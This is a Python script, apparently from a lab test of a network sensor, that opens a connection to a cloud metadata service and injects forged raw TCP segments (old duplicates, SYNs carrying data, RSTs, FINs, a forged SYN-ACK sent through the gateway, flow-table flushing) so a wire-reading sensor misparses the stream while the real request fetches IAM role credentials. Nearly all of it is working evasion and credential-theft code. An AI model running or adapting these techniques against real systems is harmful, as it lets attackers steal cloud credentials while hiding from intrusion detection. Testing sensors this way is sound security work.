#!/usr/bin/env python3
"""A client that opens a real connection to the metadata service, injects one raw segment
that the server drops but a sensor reading the wire might take as stream data, then sends
the credentials request on the real socket. COVER is a harmless request whose
Content-Length is exactly the credentials request: a sensor that reads COVER as the start of
the stream reads the credentials request as its body. Prints the replies' status lines.
Needs CAP_NET_RAW (raw and packet sockets).

  desync_client.py SRC DST MODE        MODE: plain | dup | syn | rst | finsyn | forget | forgesynack | restart
  plain: no injection (the control)
  dup:   COVER in a segment ending at the first byte of the stream (an old duplicate)
  syn:   a SYN carrying COVER ending at the first byte (the server, established, drops it)
  rst:   after a POST head, a RST carrying the last 4 body bytes again (seq != rcv_nxt)
  finsyn: a FIN without ACK, then a SYN carrying COVER, both dropped by the server
  forget: a FIN|ACK at the next byte acking unsent data (the server drops it, a sensor may
          take it as the close), then FORGET_CONNECTIONS other connections opened and closed
          (to push the tuple out of whatever a sensor remembers), then a SYN carrying COVER
  forgesynack: forget, but the forged SYN carries nothing: then a forged SYN-ACK "from" DST
          acking it, sent as a frame to the gateway (AF_PACKET) so it comes back routed like
          the server's, then COVER as data after the SYN
  restart: prints "connected" once the connection is up and waits for a line on stdin (the
          sensor starts meanwhile, knowing nothing of the connection), then a SYN carrying COVER
"""
import random
import socket
import struct
import sys
import threading
import time

CREDS = "/latest/meta-data/iam/security-credentials/nfq-lab-role"
EVIL = f"GET {CREDS} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n".encode()
COVER = b"GET /latest/meta-data/ami-id HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(EVIL)
FORGET_CONNECTIONS = 80  # more than the daemon remembers with --flow-table-cap 16 (4 x 16)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_packet(src, dst, sport, dport, seq, ack, flags, payload):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload)
    hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(hdr) + len(payload), random.randint(0, 65535),
                     0x4000, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + hdr + payload


def forge_syn_ack(server, client, client_port, ack):
    """A SYN-ACK from server:80 to client:client_port, sent out of the interface towards
    the gateway with the gateway's MAC, so the router sends it back in as if it came from
    the server."""
    import subprocess
    route = subprocess.run(["ip", "-4", "route", "get", server], capture_output=True, text=True).stdout.split()
    gateway, dev = route[route.index("via") + 1], route[route.index("dev") + 1]
    mac = None
    with open("/proc/net/arp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[0] == gateway:
                mac = bytes.fromhex(fields[3].replace(":", ""))
    frame = tcp_packet(server, client, 80, client_port, random.randint(0, 0xFFFFFFFF), ack, 0x12, b"")
    # A raw IP socket lets the kernel fill in the IP header checksum; a packet socket does not.
    frame = frame[:10] + struct.pack("!H", csum(frame[:20])) + frame[12:]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    out.sendto(frame, (dev, 0x0800, 0, 0, mac))


def main():
    src, dst, mode = sys.argv[1:4]
    sport = random.randint(30000, 60000)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
    sniff.settimeout(3)
    seen = {}

    def watch():
        while "syn" not in seen or "synack" not in seen:
            try:
                pkt = sniff.recv(65535)
            except socket.timeout:
                return
            if len(pkt) < 40 or pkt[0] >> 4 != 4:
                continue
            ihl = (pkt[0] & 0xF) * 4
            if pkt[9] != 6:
                continue
            sp, dp, seq, ack, _, fl = struct.unpack("!HHIIBB", pkt[ihl:ihl + 14])
            if sp == sport and dp == 80 and (fl & 0x12) == 0x02:
                seen["syn"] = seq
            if sp == 80 and dp == sport and (fl & 0x12) == 0x12:
                seen["synack"] = seq

    t = threading.Thread(target=watch)
    t.start()
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.bind((src, sport))
    s.settimeout(5)
    s.connect((dst, 80))
    t.join()
    isn1, ack = seen["syn"] + 1, seen["synack"] + 1
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    inject = lambda seq, flags, payload: raw.sendto(
        tcp_packet(src, dst, sport, 80, seq & 0xFFFFFFFF, ack, flags, payload), (dst, 0))
    if mode == "plain":
        s.send(EVIL)
    elif mode == "dup":
        inject(isn1 - len(COVER), 0x18, COVER)
        time.sleep(0.2)
        s.send(EVIL)
    elif mode == "syn":
        inject(isn1 - len(COVER) - 1, 0x02, COVER)
        time.sleep(0.2)
        s.send(EVIL)
    elif mode == "finsyn":
        # a FIN without ACK at the next byte (the server drops it), then a SYN carrying COVER
        # that ends at the next byte (the server, established, drops it too)
        inject(isn1, 0x01, b"")
        time.sleep(0.1)
        inject(isn1 - len(COVER) - 1, 0x02, COVER)
        time.sleep(0.2)
        s.send(EVIL)
    elif mode == "restart":
        print("connected", flush=True)
        sys.stdin.readline()
        inject(isn1 - len(COVER) - 1, 0x02, COVER)
        time.sleep(0.2)
        s.send(EVIL)
    elif mode in ("forget", "forgesynack"):
        raw.sendto(tcp_packet(src, dst, sport, 80, isn1, (ack + 100000) & 0xFFFFFFFF, 0x11, b""), (dst, 0))
        time.sleep(0.1)
        for _ in range(FORGET_CONNECTIONS):
            other = socket.create_connection((dst, 80), timeout=5, source_address=(src, 0))
            other.close()
        time.sleep(0.2)
        forged_seq = (isn1 - len(COVER) - 1) & 0xFFFFFFFF
        if mode == "forget":
            inject(forged_seq, 0x02, COVER)
        else:  # the SYN, the server's SYN-ACK for it (forged), then COVER as stream data
            inject(forged_seq, 0x02, b"")
            time.sleep(0.05)
            forge_syn_ack(dst, src, sport, (forged_seq + 1) & 0xFFFFFFFF)
            time.sleep(0.05)
            inject(forged_seq + 1, 0x18, COVER)
        time.sleep(0.2)
        s.send(EVIL)
    elif mode == "rst":
        head = b"POST /latest/meta-data/ami-id HTTP/1.1\r\nContent-Length: %d\r\n\r\nabcd" % (4 + len(COVER))
        s.send(head)
        time.sleep(0.2)
        inject(isn1 + len(head) - 4, 0x14, b"abcd")
        time.sleep(0.2)
        s.send(COVER + EVIL)
    reply = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            reply += chunk
            if reply.count(b"HTTP/1.") >= (2 if mode == "rst" else 1) and b"\r\n\r\n" in reply:
                time.sleep(0.3)
                s.settimeout(0.5)
    except socket.timeout:
        pass
    print([l.decode() for l in reply.split(b"\r\n") if l.startswith(b"HTTP/1.")])
    return 0


if __name__ == "__main__":
    sys.exit(main())
